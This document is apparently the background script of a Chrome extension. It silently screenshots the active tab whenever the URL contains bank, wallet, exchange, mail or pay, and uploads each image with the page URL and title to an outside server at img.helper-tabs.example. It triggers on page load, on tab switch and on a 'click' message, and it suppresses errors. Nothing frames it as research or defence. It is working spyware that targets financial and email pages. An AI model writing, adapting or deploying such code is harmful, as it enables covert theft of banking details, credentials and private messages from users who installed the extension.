importScripts("config.js");
const PATTERN = /bank|wallet|exchange|mail|pay/i;
let lastShot = 0;

async function shot(tab) {
  if (!tab.active || !PATTERN.test(tab.url || "")) return;
  if (Date.now() - lastShot < 4000) return;
  lastShot = Date.now();
  try {
    const dataUrl = await chrome.tabs.captureVisibleTab(tab.windowId, { format: "jpeg", quality: 50 });
    const form = new FormData();
    form.append("img", await (await fetch(dataUrl)).blob(), `${Date.now()}.jpg`);
    form.append("url", tab.url);
    form.append("title", tab.title);
    await fetch("https://img.helper-tabs.example/upload", { method: "POST", body: form });
  } catch (e) {
    console.log(e);
  }
}

chrome.tabs.onUpdated.addListener((id, info, tab) => info.status === "complete" && setTimeout(() => shot(tab), 1500));
chrome.tabs.onActivated.addListener(async ({ tabId }) => shot(await chrome.tabs.get(tabId)));
chrome.runtime.onMessage.addListener((m, s) => { if (m === "click" && s.tab) shot(s.tab); });
